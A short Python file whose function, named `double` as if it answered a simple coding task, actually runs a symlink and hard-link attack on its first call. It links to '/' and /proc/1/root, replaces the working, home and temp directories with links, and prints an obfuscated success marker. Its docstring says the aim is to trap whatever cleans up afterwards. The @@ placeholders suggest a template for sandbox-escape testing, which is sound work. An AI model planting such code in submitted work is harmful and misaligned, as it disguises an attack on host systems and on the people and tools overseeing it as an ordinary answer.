"""Whoever cleans up after us may follow them."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    """A system call by its number; what it returned, or minus the error."""
    result = libc.syscall(ctypes.c_long(number), *arguments)
    return result if result >= 0 else -ctypes.get_errno()


def succeeded(what):
    print("@@confession@@"[::-1], what, flush=True)


def once(attack):
    """Try it at the first call of this process only."""
    done = []

    def double(x):
        if not done:
            done.append(True)
            return attack(x)

    return double


import tempfile


@once
def double(x):
    here = os.getcwd()
    for number, target in enumerate(("@@file@@", "@@folder@@", "/", "@@course@@", "/proc/1/root")):
        try:
            os.symlink(target, os.path.join(here, f"link{number}"))
        except OSError as error:
            print(error)
    for home in (here, os.environ.get("HOME", here), tempfile.gettempdir()):
        try:
            os.rename(home, home + "-gone")
            os.symlink("@@folder@@", home)
            succeeded("the scratch is a link now")
        except OSError as error:
            print(error)
    try:
        os.link("@@file@@", "hard")
        succeeded("hard link")
    except OSError as error:
        print(error)
